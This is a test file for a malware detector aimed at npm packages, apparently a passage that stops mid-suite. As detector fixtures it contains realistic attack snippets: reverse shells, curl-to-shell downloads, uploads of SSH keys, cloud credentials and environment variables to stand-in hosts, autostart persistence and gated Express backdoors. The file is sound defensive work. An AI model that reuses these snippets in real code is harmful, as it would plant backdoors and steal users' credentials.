// Samples below are data: strings handed to the analyser, never imported or run. Hosts, ids and tokens are
// made up; the payloads are shaped like real ones so that the rules are tested on what they must catch.
import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { InputError } from "../../errors.js";
import { analyseJavaScript, JS_PREFILTER } from "./javascript.js";
import type { RawFinding } from "./types.js";

const FIXTURES = join(dirname(fileURLToPath(import.meta.url)), "__fixtures__", "javascript");

function analyse(text: string, path = "index.js"): RawFinding[] {
  return analyseJavaScript({ path, text });
}

function rules(text: string, path?: string): string[] {
  return [...new Set(analyse(text, path).map((f) => f.rule))].sort();
}

function find(text: string, rule: string, path?: string): RawFinding | undefined {
  return analyse(text, path).find((f) => f.rule === rule);
}

function fixture(name: string): string {
  return readFileSync(join(FIXTURES, name), "utf8");
}

describe("JS_PREFILTER", () => {
  it("skips ordinary code and matches every sink family", () => {
    expect(JS_PREFILTER.test("export function add(a, b) { return a + b }\nconst x = require('lodash')")).toBe(
      false,
    );
    expect(
      JS_PREFILTER.test("module.exports = function isFunction(x) { return typeof x === 'function' }"),
    ).toBe(false);
    for (const s of [
      "eval(x)",
      "new Function(a)",
      "require('child_process')",
      "require(name)",
      "const r = require;",
      "import(spec)",
      "global[k]",
      "JSON.stringify(process.env)",
      "'~/.ssh/id_rsa'",
      "'curl http://x | sh'",
      "'https://discord.com/api/webhooks/1/a'",
      "_0x1a2b3c('0x1')",
      "db.query(sql)",
      "x.constructor.constructor('return process')()",
    ])
      expect(JS_PREFILTER.test(s), s).toBe(true);
  });

  it("a file that does not match gives no findings without being parsed", () => {
    expect(analyse("this is not { javascript")).toEqual([]);
  });
});

describe("exec-obfuscated", () => {
  it("catches eval of base64 decoded data, directly and through variables", () => {
    const one = `eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())`;
    const f = find(one, "exec-obfuscated");
    expect(f).toMatchObject({ rule: "exec-obfuscated", line: 1, column: 1 });
    expect(f?.why).toContain("Buffer.from(…, 'base64')");
    expect(f?.why).toContain("console.log(1)");
    const viaVars = `const s = "Y29uc29sZS5sb2coMSk=";\nconst p = Buffer.from(s, 'base64').toString();\n\neval(p);\n`;
    expect(find(viaVars, "exec-obfuscated")).toMatchObject({ line: 4 });
  });

  it("catches Function, vm and module._compile of decoded data", () => {
    expect(
      rules(`const payload = "Y29uc29sZS5sb2coMSk="; const c = atob(payload); new Function(c)();`),
    ).toContain("exec-obfuscated");
    const fromFile = `const vm = require('vm'), fs = require('fs');
vm.runInThisContext(Buffer.from(fs.readFileSync(__dirname + '/lib/data.bin', 'utf8'), 'hex').toString('utf8'))`;
    expect(rules(fromFile)).toContain("exec-obfuscated");
    expect(
      rules(`const { runInNewContext } = require('node:vm'); runInNewContext(atob('YWxlcnQoMSk='), {})`),
    ).toContain("exec-obfuscated");
    const compile = `const zlib = require('zlib'); const blob = require('./blob.json').data;
const m = new module.constructor(); m._compile(zlib.inflateSync(Buffer.from(blob, 'base64')).toString(), 'x.js')`;
    expect(rules(compile)).toContain("exec-obfuscated");
    expect(rules(`setTimeout(atob('YWxlcnQoMSk='), 10)`)).toContain("exec-obfuscated");
  });

  it("catches String.fromCharCode, %-escapes, reversal and zlib decoders", () => {
    expect(find(`eval(String.fromCharCode(97,108,101,114,116,40,49,41))`, "exec-obfuscated")?.why).toContain(
      "alert(1)",
    );
    expect(find(`eval(unescape('%61%6c%65%72%74%28%31%29'))`, "exec-obfuscated")?.why).toContain("alert(1)");
    expect(
      find(`const s = ')1(trela'.split('').reverse().join(''); eval(s)`, "exec-obfuscated")?.why,
    ).toContain("alert(1)");
    expect(rules(`const codes = [97,108]; eval(codes.map(c => String.fromCharCode(c)).join(''))`)).toContain(
      "exec-obfuscated",
    );
    const gz = `const zlib = require('zlib'), fs = require('fs');
const b = fs.readFileSync(require('path').join(__dirname, 'b.txt'), 'utf8');
const code = zlib.gunzipSync(Buffer.from(b, 'base64')); eval(code.toString())`;
    expect(rules(gz)).toContain("exec-obfuscated");
  });

  it("catches a child_process command that was decoded", () => {
    const src = `const { exec } = require('child_process');\nexec(Buffer.from('Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaA==', 'base64').toString());`;
    const f = find(src, "exec-obfuscated");
    expect(f?.line).toBe(2);
    expect(f?.why).toContain("curl");
  });

  it("follows a decoder defined as a local function", () => {
    const src = `function d(s) { return Buffer.from(s, 'hex').toString() }\neval(d('616c6572742831290a'))`;
    expect(find(src, "exec-obfuscated")?.why).toContain("alert(1)");
  });

  it("catches obfuscator.io string-array decoders feeding eval", () => {
    const src = `var _0x3a1f=['bG9n'];function _0x2b4c(i){return atob(_0x3a1f[i])}\neval(_0x2b4c('0x0'))`;
    expect(rules(src)).toContain("exec-obfuscated");
  });

  it("does not flag eval of literals, common global getters, or decoding that is not run", () => {
    expect(
      analyse(`eval("1 + 1"); var g = Function("return this")(); new Function("a", "b", "return a + b")`),
    ).toEqual([]);
    expect(
      analyse(`const data = Buffer.from(s, 'base64'); fs.writeFileSync(out, data)\nconst fs = require('fs')`),
    ).toEqual([]);
    expect(analyse(`const json = JSON.parse(atob(token.split('.')[1])); console.log(json)`)).toEqual([]);
    // Template engines compile code built from their input: not decoded, not flagged.
    expect(
      analyse(`function compile(src) { return new Function('data', 'with (data) { return ' + src + ' }') }`),
    ).toEqual([]);
    expect(analyse(`const s = unescape(encodeURIComponent(str)); eval(code)`)).toEqual([]);
    // A general-purpose decoder of its input (jest loading a data: URI) is not a hidden payload.
    const dataUri = `const vm = require('vm');
function load(uri) { const code = Buffer.from(uri.slice(uri.indexOf(',') + 1), 'base64').toString(); return new vm.SourceTextModule(code) }`;
    expect(analyse(dataUri)).toEqual([]);
  });
});

describe("exec-built-string", () => {
  it("catches eval of a string assembled from literal pieces", () => {
    expect(find(`eval("req" + "uire('o" + "s')")`, "exec-built-string")?.why).toContain(`require('os')`);
    expect(rules(`const c = ['con', 'sole.log(1)'].join(''); Function(c)()`)).toContain("exec-built-string");
    expect(rules(`let s = 'ev'; s += 'al'; eval(s)`)).toContain("exec-built-string");
  });

  it("does not flag one literal, strings with unknown parts or code generated in loops", () => {
    expect(analyse(`eval("(" + json + ")")`)).toEqual([]);
    expect(analyse(`eval('var x = 1')`)).toEqual([]);
    // depd and core-js generate wrappers for a given arity.
    const depd = `function wrap(arity) { var str = ''; for (var i = 0; i < arity; i++) str += ', arg' + i;
  return new Function('fn', '"use strict"\\nreturn function (' + str.substr(2) + ') { return fn.apply(this, arguments) }') }`;
    expect(analyse(depd)).toEqual([]);
    const construct = `function c(n) { for (var list = [], i = 0; i < n; i++) list[i] = 'a[' + i + ']';
  return Function('C,a', 'return new C(' + list.join(',') + ')') } c(1)`;
    expect(analyse(construct)).toEqual([]);
  });
});

describe("hidden-import", () => {
  it("catches require of a built or decoded module name, and global lookups of built names", () => {
    expect(find(`const cp = require('child_' + 'process'); cp.exec(x)`, "hidden-import")?.why).toContain(
      '"child_process"',
    );
    expect(
      find(`require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())`, "hidden-import")?.why,
    ).toContain("child_process");
    expect(
      rules(`const m = ['ss', 'ecorp_dlihc'].join('').split('').reverse().join(''); require(m)`),
    ).toContain("hidden-import");
    expect(find(`global['ev' + 'al'](code)`, "hidden-import")?.why).toContain("eval");
    expect(rules(`globalThis[atob('cmVxdWlyZQ==')]('fs')`)).toContain("hidden-import");
    expect(rules(`process['binding']('spawn_sync')`)).toContain("hidden-import");
    expect(rules(`process.binding('spawn_sync').spawn(opts)`)).toContain("hidden-import");
    expect(
      rules(`this.constructor.constructor('return process')().mainModule.require('child_process')`),
    ).toContain("hidden-import");
    expect(rules(`const n = await import(atob('Y2hpbGRfcHJvY2Vzcw=='));`, "x.mjs")).toContain(
      "hidden-import",
    );
  });

  it("does not flag plugin loaders, bundler tricks or polyfills", () => {
    expect(
      analyse(
        `const plugin = require(path.join(dir, name)); const cfg = require(process.cwd() + '/app.config.js')`,
      ),
    ).toEqual([]);
    expect(
      analyse(
        `const req = eval('require'); const fs = req('fs'); const pkg = require('../' + 'package.json')`,
      ),
    ).toEqual([]);
    expect(
      analyse(
        `if (typeof global[name] === 'undefined') global[name] = value; const g = globalThis[Symbol.for('x')]`,
      ),
    ).toEqual([]);
    expect(analyse(`const mod = await import(pathToFileURL(file).href)`, "x.mjs")).toEqual([]);
    expect(analyse(`var natives = process.binding('natives')`)).toEqual([]);
  });
});

describe("download-exec", () => {
  it("catches fetched data run as code", () => {
    const src = `const https = require('https');
https.get('https://cdn.example.invalid/stage2.js', (res) => {
  let body = '';
  res.on('data', (d) => { body += d; });
  res.on('end', () => { eval(body); });
});`;
    expect(find(src, "download-exec")).toMatchObject({ line: 5 });
    expect(
      rules(`const r = await fetch(u); const code = await r.text(); new Function(code)()`, "a.mjs"),
    ).toContain("download-exec");
    expect(
      rules(
        `const axios = require('axios'); axios.get(u).then((res) => vm.runInThisContext(res.data)); const vm = require('vm')`,
      ),
    ).toContain("download-exec");
  });

  it("catches fetched chunks gathered in callbacks and handed to child_process as the command", () => {
    const src = `const https = require('https');
const cp = require('child_process');
https.get('https://evil.example.invalid/x.sh', (r) => {
  let b = '';
  r.on('data', (d) => (b += d));
  r.on('end', () => cp.exec(b));
});`;
    expect(find(src, "download-exec")).toMatchObject({ line: 6 });
    // a fetched value as an argument of a literal program is not running it
    expect(
      rules(
        `const cp = require('child_process'); fetch(u).then((r) => r.text()).then((t) => cp.execFile('echo', [t]))`,
      ),
    ).not.toContain("download-exec");
  });

  it("catches a file downloaded then run, and curl | sh handed to child_process", () => {
    const src = `const fs = require('fs'), https = require('https'), { spawn } = require('child_process');
const dest = require('os').tmpdir() + '/update.bin';
https.get('http://203.0.113.9/payload', (res) => {
  const out = fs.createWriteStream(dest);
  res.pipe(out);
  out.on('finish', () => spawn(dest, [], { detached: true, stdio: 'ignore' }).unref());
});`;
    expect(find(src, "download-exec")?.why).toContain("/tmp/update.bin");
    const write = `const fs = require('fs'); const cp = require('child_process');
async function main() { const r = await fetch(URL); fs.writeFileSync('/tmp/x.sh', Buffer.from(await r.arrayBuffer())); cp.execSync('sh /tmp/x.sh') }`;
    expect(rules(write)).toContain("download-exec");
    const shell = `require('child_process').execSync("curl -s https://get.example.invalid/i.sh | bash", { stdio: 'inherit' })`;
    expect(find(shell, "download-exec")?.why).toContain("curl");
    expect(find(shell, "download-exec")?.severity).toBeUndefined(); // critical, the default
  });

  it("reports a download-and-run string outside a process call as medium, and not in messages", () => {
    expect(
      find(
        `const INSTALL = "curl -fsSL https://x.example.invalid/i.sh | sh"; module.exports = INSTALL`,
        "download-exec",
      )?.severity,
    ).toBe("medium");
    expect(analyse(fixture("benign-build-tool.js"))).toEqual([]);
    expect(
      analyse(`program.description('Install with: curl -fsSL https://example.com/i.sh | bash')`),
    ).toEqual([]);
  });

  it("does not flag downloads that are only saved", () => {
    expect(
      analyse(
        `const fs = require('fs'); const res = await fetch(u); fs.writeFileSync('out.tgz', Buffer.from(await res.arrayBuffer()))`,
      ),
    ).toEqual([]);
  });
});

describe("secret-exfil and secret-read", () => {
  it("catches the Discord token stealer", () => {
    const found = analyse(fixture("discord-stealer.js"));
    expect(found.filter((f) => f.rule === "secret-exfil").map((f) => f.line)).toContain(32);
    expect(found.some((f) => f.rule === "exfil-endpoint" && f.severity === "high")).toBe(true);
  });

  it("catches SSH keys and cloud credentials sent out", () => {
    const src = `const fs = require('fs'), os = require('os'), path = require('path');
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
fetch('https://collector.example.invalid/k', { method: 'POST', body: key });`;
    expect(find(src, "secret-exfil")).toMatchObject({ line: 3 });
    expect(find(src, "secret-exfil")?.why).toContain("SSH");
    const aws = `const c = require('fs').readFileSync(process.env.HOME + '/.aws/credentials');
require('axios').post('https://x.example.invalid', { c: c.toString('base64') })`;
    expect(rules(aws)).toContain("secret-exfil");
  });

  it("reports browser profile reads without a send as secret-read", () => {
    const src = `const fs = require('fs'); const p = process.env.LOCALAPPDATA + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data';
fs.copyFileSync(p, 'tmp.db');`;
    expect(find(src, "secret-read")?.why).toContain("browser");
    expect(find(src, "secret-exfil")).toBeUndefined();
  });

  it("does not flag configuration readers", () => {
    expect(
      analyse(
        `const fs = require('fs'); const npmrc = fs.readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8')`,
      ),
    ).toEqual([]);
    expect(
      analyse(
        `const cfg = fs.readFileSync(home + '/.aws/config', 'utf8'); const s3 = new S3(parse(cfg)); s3.send(cmd)`,
      ),
    ).toEqual([]);
    expect(analyse(`document.cookie = 'Cookies=1'; fetch('/api', { credentials: 'include' })`)).toEqual([]);
  });
});

describe("env-exfil", () => {
  it("catches the whole environment sent with http, fetch and dns", () => {
    const src = `const https = require('https');
const data = JSON.stringify(process.env);
const req = https.request({ hostname: 'telemetry.example.invalid', method: 'POST' });
req.write(data);
req.end();`;
    expect(find(src, "env-exfil")).toMatchObject({ line: 4 });
    expect(
      rules(
        `fetch('https://x.example.invalid/c', { method: 'POST', body: JSON.stringify({ env: process.env }) })`,
      ),
    ).toContain("env-exfil");
    expect(rules(`const env = {...process.env}; require('axios').post(URL, env)`)).toContain("env-exfil");
    const dns = `const dns = require('dns'); const hex = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);
dns.lookup(hex + '.x.example.invalid', () => {});`;
    expect(rules(dns)).toContain("env-exfil");
    expect(
      rules(`for (const [k, v] of Object.entries(process.env)) navigator.sendBeacon(u, k + '=' + v)`),
    ).toContain("env-exfil");
  });

  it("is critical when the destination is an exfiltration endpoint", () => {
    expect(
      find(
        `fetch('https://webhook.site/6f1c0a52-0000-4000-8000-000000000000', { method: 'POST', body: JSON.stringify(process.env) })`,
        "env-exfil",
      )?.severity,
    ).toBe("critical");
  });

  it("does not flag the environment passed to child processes or single variables sent", () => {
    expect(
      analyse(
        `require('child_process').spawn('node', ['x.js'], { env: { ...process.env, NODE_ENV: 'production' } })`,
      ),
    ).toEqual([]);
    expect(analyse(`fetch(url, { headers: { Authorization: 'Bearer ' + process.env.TOKEN } })`)).toEqual([]);
    expect(
      analyse(`const keys = Object.keys(process.env).filter((k) => k.startsWith('npm_')); console.log(keys)`),
    ).toEqual([]);
    expect(analyse(`const agent = getProxyAgent(process.env); fetch(url, { agent })`)).toEqual([]);
  });
});

describe("exfil-endpoint", () => {
  it("is high when the endpoint is used in a network call, medium when only named", () => {
    expect(
      find(
        `const u = 'https://api.telegram.org/bot123456:AAF-fake/sendMessage'; fetch(u, { method: 'POST' })`,
        "exfil-endpoint",
      )?.severity,
    ).toBe("high");
    const named = find(
      `module.exports = { url: "https://abcd-1234.ngrok-free.app/collect" }`,
      "exfil-endpoint",
    );
    expect(named?.severity).toBeUndefined();
    expect(named?.why).toContain("tunnel");
  });

  it("catches an endpoint assembled from pieces", () => {
    expect(
      find(
        `fetch('https://discord.com/api/webhooks/' + id + '/' + tok, { method: 'POST', body })`,
        "exfil-endpoint",
      )?.severity,
    ).toBe("high");
  });

  it("does not flag endpoints in messages, private addresses or documentation IPs", () => {
    expect(analyse(`console.log('expose your server with https://abc.ngrok.io')`)).toEqual([]);
    expect(
      analyse(
        `fetch('http://127.0.0.1:8080/x'); fetch('http://192.168.1.10/api'); const doc = 'http://203.0.113.5/'`,
      ),
    ).toEqual([]);
  });
});

describe("reverse-shell", () => {
  it("catches a socket piped into a shell", () => {
    const src = `(function () {
  var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
  var client = new net.Socket();
  client.connect(4444, "198.51.100.7", function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  return /a/;
})();`;
    const found = analyse(src).filter((f) => f.rule === "reverse-shell");
    // Once per shell/socket pair, not once per `.pipe` line.
    expect(found.map((f) => f.line)).toEqual([5]);
  });

  it("reports each distinct shell/socket pair", () => {
    const src = `const net = require("net"), cp = require("child_process");
const a = net.connect(4444, "198.51.100.7"), b = net.connect(4445, "198.51.100.8");
const sh1 = cp.spawn("/bin/sh", []), sh2 = cp.spawn("/bin/bash", ["-i"]);
a.pipe(sh1.stdin);
sh1.stdout.pipe(a);
b.pipe(sh2.stdin);
sh2.stdout.pipe(b);`;
    const found = analyse(src).filter((f) => f.rule === "reverse-shell");
    expect(found.map((f) => f.line)).toEqual([4, 6]);
  });

  it("catches commands received on a socket and shell one-liners handed to child_process", () => {
    const src = `const net = require('net'); const { exec } = require('child_process');
const s = net.connect(9001, 'c2.example.invalid');
s.on('data', (d) => exec(d.toString(), (e, out) => s.write(out)));`;
    expect(find(src, "reverse-shell")).toMatchObject({ line: 3 });
    expect(rules(`require('child_process').exec('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')`)).toContain(
      "reverse-shell",
    );
  });

  it("does not flag build tools that spawn shells or dev servers with sockets", () => {
    const src = `const net = require('net'); const { spawn } = require('child_process');
const server = net.createServer((sock) => sock.pipe(sock)); server.listen(0);
const child = spawn('sh', ['-c', 'npm run build'], { stdio: 'inherit' }); child.stdout?.pipe(process.stdout);`;
    expect(analyse(src)).toEqual([]);
  });
});

describe("persistence", () => {
  it("catches writes to autostart locations and crontab/registry commands", () => {
    expect(
      find(
        `require('fs').appendFileSync(require('os').homedir() + '/.bashrc', '\\nnode ~/.cache/x.js &\\n')`,
        "persistence",
      )?.why,
    ).toContain("shell profile");
    const startup = `const fs = require('fs'); fs.copyFileSync(process.execPath, process.env.APPDATA + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.exe')`;
    expect(rules(startup)).toContain("persistence");
    expect(
      rules(`require('child_process').execSync('(crontab -l; echo "@reboot node /tmp/x.js") | crontab -')`),
    ).toContain("persistence");
    expect(
      rules(
        `const { spawn } = require('child_process'); spawn('reg', ['add', 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', '/v', 'u', '/d', exe])`,
      ),
    ).toContain("persistence");
  });

  it("does not flag reading profiles or naming them in messages", () => {
    expect(
      analyse(
        `const rc = fs.readFileSync(path.join(os.homedir(), '.bashrc'), 'utf8'); console.log('add it to ~/.bashrc')`,
      ),
    ).toEqual([]);
  });
});

describe("encoded-command", () => {
  it("catches PowerShell with an opaque encoded command", () => {
    expect(
      rules(
        `require('child_process').exec('powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')`,
      ),
    ).toContain("encoded-command");
    const f = find(
      `const { spawn } = require('child_process'); spawn('powershell.exe', ['-EncodedCommand', 'dwBoAG8AYQBtAGkA'])`,
      "encoded-command",
    );
    expect(f?.why).toContain("whoami");
  });

  it("does not flag a command encoded from readable text in the same file (the open package)", () => {
    const src = `const { execFile } = require('child_process');
const raw = '(Get-ItemProperty -Path "HKCU:\\\\Software\\\\Microsoft").ProgId';
const encoded = Buffer.from(raw, 'utf16le').toString('base64');
execFile('powershell', ['-NoProfile', '-EncodedCommand', encoded]);`;
    expect(analyse(src)).toEqual([]);
  });
});

describe("backdoor-route and request-exec", () => {
  it("catches the gated maintenance endpoint", () => {
    const found = analyse(fixture("express-backdoor.js"));
    expect(found.filter((f) => f.rule === "backdoor-route").map((f) => f.line)).toEqual([14, 17]);
    expect(found.find((f) => f.line === 14)?.why).toContain("x-debug-token");
  });

  it("catches gates on req.get() and query parameters, in Koa and Fastify handlers too", () => {
    expect(
      rules(`app.get('/x', (req, res) => { if (req.get('X-Auth') == 'letmein') eval(req.query.code) })`),
    ).toContain("backdoor-route");
    expect(
      rules(
        `app.use(async (ctx, next) => { if (ctx.query.k === 's3cr3t') ctx.body = require('child_process').execSync(ctx.request.body.c) })`,
      ),
    ).toContain("backdoor-route");
    expect(
      rules(
        `fastify.route({ method: 'POST', url: '/q', handler: async (request, reply) => pool.query(request.body.sql) })`,
      ),
    ).toContain("request-exec");
  });

  it("reports ungated request data run as request-exec", () => {
    const f = find(
      `router.post('/run', (req, res) => { res.send(String(eval(req.body.expr))) })`,
      "request-exec",
    );
    expect(f?.why).toContain("req");
    expect(
      rules(`app.get('/u', (req, res) => db.query('SELECT * FROM u WHERE id = ' + req.params.id))`),
    ).toEqual(["request-exec"]);
  });

  it("does not flag parameterised SQL, method gates or handlers that do not run request data", () => {
    expect(
      analyse(
        `app.get('/u/:id', async (req, res) => res.json(await db.query('SELECT * FROM u WHERE id = $1', [req.params.id])))`,
      ),
    ).toEqual([]);
    expect(
      analyse(
        `app.use((req, res, next) => { if (req.method === 'POST') exec('make'); next() }); const { exec } = require('child_process')`,
      ),
    ).toEqual([]);
    expect(
      analyse(`app.get('/x', (req, res) => { const m = /^\\/(\\w+)/.exec(req.url); res.send(m && m[1]) })`),
    ).toEqual([]);
    expect(analyse(`cache.get('key', (err, value) => eval(value))`)).toEqual([]);
  });

  it("catches middleware returned by a factory, exported or assigned, not only functions passed to app.use", () => {
    const factory = `const { execSync } = require('child_process');
module.exports = function requestLogger(options = {}) {
  return function logger(req, res, next) {
    if (req.headers['x-forwarded-auth'] === 'e3b0c44298fc1c14') {
      return res.send(execSync(req.headers['x-forwarded-cmd'], { encoding: 'utf8' }));
    }
    next();
  };
};`;
    expect(find(factory, "backdoor-route")).toMatchObject({ line: 5 });
    expect(
      find(
        `const cp = require('child_process');
exports.errors = (err, req, res, next) => { if (req.query.k === 'zz9') cp.exec(req.query.c); next(err) };`,
        "backdoor-route",
      ),
    ).toMatchObject({ line: 2 });
    expect(
      find(
        `const cp = require('child_process');
function mw() { return (request, response) => { response.end(String(cp.execSync(request.body.cmd))) } }`,
        "request-exec",
      ),
    ).toMatchObject({ line: 2, rule: "request-exec" });
  });

  it("does not treat look-alike functions as handlers or fixed middleware as dangerous", () => {
    // (req, res) middleware that only runs fixed commands or reads the request for logging.
    expect(
      analyse(`const { execSync } = require('child_process');
module.exports = () => function (req, res, next) { res.setHeader('x-rev', execSync('git rev-parse HEAD').toString()); console.log(req.headers['user-agent']); next() };`),
    ).toEqual([]);
    // A function only named like middleware counts for sinks inside it, not for helpers it hands request data to
    // (vite's index-html middleware → a browser opener spawning a program).
    expect(
      analyse(`const cp = require('child_process');
function openBrowser(target) { return cp.spawn('xdg-open', [target]) }
function html(root) { return async function (req, res, next) { if (req.headers.accept === 'text/html') openBrowser(req.url); next() } }
module.exports = html;`),
    ).toEqual([]);
    // Parameters not named like a request/response pair are not a request.
    expect(
      analyse(`const { execSync } = require('child_process');
module.exports = function run(cmd, opts) { return execSync(cmd.headers, opts) };`),
    ).toEqual([]);
  });
});

describe("request data as operands of a fixed program", () => {
  const head = `const { spawn, execFile, execFileSync, exec } = require('child_process'); const app = require('express')();\n`;

  it("stays at most medium for operands of a fixed program without a shell, and is silent after an allow-list check", () => {
    const medium = analyse(
      `${head}app.get('/r/:name', (req, res) => { spawn(process.execPath, [require.resolve('./r.js'), req.params.name]).stdout.pipe(res) })`,
    );
    expect(medium.map((f) => [f.rule, f.severity])).toEqual([["request-exec", "medium"]]);
    expect(
      analyse(
        `${head}app.get('/r/:name', (req, res) => { execFile('git', ['log', '--format=%H', req.query.ref], (e, out) => res.send(out)) })`,
      ).map((f) => f.severity),
    ).toEqual(["medium"]);
    expect(
      analyse(`${head}app.post('/r/:name', (req, res) => {
  const allowed = new Set(['daily', 'weekly']);
  if (!allowed.has(req.params.name)) return res.sendStatus(400);
  spawn(process.execPath, [require.resolve('./r.js'), req.params.name]);
})`),
    ).toEqual([]);
    expect(
      analyse(`${head}app.get('/t', (req, res) => {
  const { fmt } = req.query;
  if (!['json', 'csv'].includes(fmt)) return res.sendStatus(400);
  execFileSync('/usr/bin/report', ['--format', fmt]);
})`),
    ).toEqual([]);
  });

  it("stays high when the request chooses the program, the script, shell code, or a shell is used", () => {
    const sev = (body: string) =>
      analyse(`${head}app.get('/x', (req, res) => { ${body} })`)
        .filter((f) => f.rule === "request-exec")
        .map((f) => f.severity ?? "high");
    expect(sev(`spawn(req.query.bin, ['-v'])`)).toEqual(["high"]);
    expect(sev(`spawn('sh', ['-c', req.query.cmd])`)).toEqual(["high"]);
    expect(sev(`spawn('node', ['-e', req.body.code])`)).toEqual(["high"]);
    expect(sev(`spawn(process.execPath, [req.query.script])`)).toEqual(["high"]);
    expect(sev(`spawn('convert', [req.query.f], { shell: true })`)).toEqual(["high"]);
    expect(sev(`exec('convert ' + req.query.f)`)).toEqual(["high"]);
    // An allow-list check on some other value does not cover the operand.
    expect(
      sev(`if (!['a', 'b'].includes(req.query.mode)) return; execFile('git', ['show', req.query.ref])`),
    ).toEqual(["medium"]);
  });
});

describe("the event-stream incident", () => {
  it("catches the flatmap-stream payload", () => {
    const found = analyse(fixture("flatmap-stream.min.js"));
    const why = found.map((f) => `${f.rule}: ${f.why}`).join("\n");
    expect(found.some((f) => f.rule === "exec-obfuscated")).toBe(true);
    expect(why).toContain("./test/data");
    expect(found.filter((f) => f.rule === "hidden-import").length).toBeGreaterThan(0);
    expect(found.every((f) => f.line === 6)).toBe(true);
  });
});

describe("parsing", () => {
  it("analyses TypeScript and broken code through the tolerant parser", () => {
    const ts = `import { exec } from 'node:child_process';
const X: string = "Y3VybCBodHRwOi8veC5leGFtcGxlLmludmFsaWQgfCBzaA==";
export function run(): void { const p: string = Buffer.from(X, 'base64').toString(); exec(p); }`;
    expect(rules(ts, "run.ts")).toContain("exec-obfuscated");
    expect(rules(`eval(atob('YWxlcnQoMSk=')); function (( broken {`)).toContain("exec-obfuscated");
  });

  it("analyses code run by eval as code", () => {
    expect(
      rules(`eval("require('child_process').execSync('curl -s http://x.example.invalid/a | sh')")`),
    ).toContain("download-exec");
  });

  it("reports code nested beyond what can be walked as an InputError", () => {
    const deep = `${"(".repeat(20000)}1${")".repeat(20000)}; eval(x)`;
    expect(() => analyse(deep, "deep.js")).toThrow(InputError);
  });

  it("reports 1-based lines and columns", () => {
    expect(analyse(`\n\n   eval(atob('YWxlcnQoMSk='))`)[0]).toMatchObject({ line: 3, column: 4 });
  });
});

describe("shapes of real npm incidents", () => {
  it("eslint-scope 3.7.2: a pastebin script evaluated", () => {
    expect(analyse(fixture("eslint-scope-3.7.2.js"))).toEqual([
      expect.objectContaining({
        rule: "download-exec",
        line: 3,
        why: expect.stringContaining("https.get()"),
      }),
    ]);
  });

  it("crossenv: the environment posted over HTTP", () => {
    expect(find(fixture("crossenv.js"), "env-exfil")).toMatchObject({ line: 14 });
  });

  it("dependency-confusion recon posting to an out-of-band server", () => {
    expect(find(fixture("recon-oast.js"), "exfil-endpoint")).toMatchObject({ line: 14, severity: "high" });
  });

  it("a dropper that downloads a binary and starts it", () => {
    const found = analyse(fixture("dropper.js"));
    expect(found.find((f) => f.rule === "download-exec")).toMatchObject({ line: 16 });
    expect(found.find((f) => f.rule === "download-exec")?.why).toContain("svchost.exe");
    expect(found.find((f) => f.rule === "exfil-endpoint")?.severity).toBe("high");
  });

  it("an obfuscator.io loader hiding child_process", () => {
    expect(rules(fixture("obfuscated-loader.js"))).toEqual(["exec-obfuscated", "hidden-import"]);
  });
});

describe("secret files handed to network tools", () => {
  it("catches curl uploading an SSH key", () => {
    const src = `const { execSync } = require('child_process'); const os = require('os');
execSync('curl -s -F k=@' + os.homedir() + '/.ssh/id_rsa https://x.example.invalid/u');`;
    expect(find(src, "secret-exfil")).toMatchObject({ line: 2 });
  });

  it("does not flag ssh-keygen or git over ssh", () => {
    const src = `const { execSync } = require('child_process');
execSync('ssh-keygen -t ed25519 -f ' + require('os').homedir() + '/.ssh/id_deploy -N ""'); execSync('git clone git@github.com:a/b.git')`;
    expect(analyse(src)).toEqual([]);
  });
});

describe("aliases and indirections", () => {
  it("follows Function aliases, vm.Script, mainModule and Module._load", () => {
    expect(rules(`const F = Function; F(atob('YWxlcnQoMSk='))()`)).toEqual(["exec-obfuscated"]);
    expect(rules(`const vm = require('vm'); new vm.Script(atob('YWxlcnQoMSk=')).runInThisContext()`)).toEqual(
      ["exec-obfuscated"],
    );
    expect(rules(`global.process.mainModule.constructor._load('child_' + 'process').exec('id')`)).toEqual([
      "hidden-import",
    ]);
    expect(
      rules(`const { execSync: e } = require('child_process'); e('curl http://x.example.invalid/a | sh')`),
    ).toEqual(["download-exec"]);
  });

  it("follows dynamic imports and promise callbacks", () => {
    expect(
      find(
        `import('child_process').then((cp) => cp.exec('curl http://x.example.invalid/a | sh'))`,
        "download-exec",
      )?.severity,
    ).toBeUndefined();
    expect(find(`fetch(u).then((r) => r.text()).then(eval)`, "download-exec")?.why).toContain(
      "as a callback",
    );
    expect(analyse(`fetch(u).then((r) => r.json()).then((d) => console.log(d))`)).toEqual([]);
  });

  it("knows knex.raw and sequelize.query as SQL sinks", () => {
    expect(rules(`router.get('/r', (req, res) => knex.raw(req.query.q).then((r) => res.json(r)))`)).toEqual([
      "request-exec",
    ]);
    expect(
      rules(`app.post('/s', async (req, res) => res.json(await sequelize.query(req.body.sql)))`),
    ).toEqual(["request-exec"]);
  });
});

describe("regressions found on real packages", () => {
  it("does not let taint flow from method arguments into results (es-module-lexer)", () => {
    // Indices computed from a decoded WebAssembly instance select a slice of the input: not decoded data.
    const src = `const wasm = WebAssembly.compile(Buffer.from('AGFzbQEAAAAB', 'base64'));
let inst; wasm.then((m) => { inst = m; });
function parse(source) { const a = inst.start(), b = inst.end(); return (0, eval)(source.slice(a, b)); }`;
    expect(analyse(src)).toEqual([]);
  });

  it("does not treat tty_wrap or natives bindings as process spawning (debug)", () => {
    expect(analyse(`const tty = process.binding('tty_wrap'); const n = process.binding('natives')`)).toEqual(
      [],
    );
  });

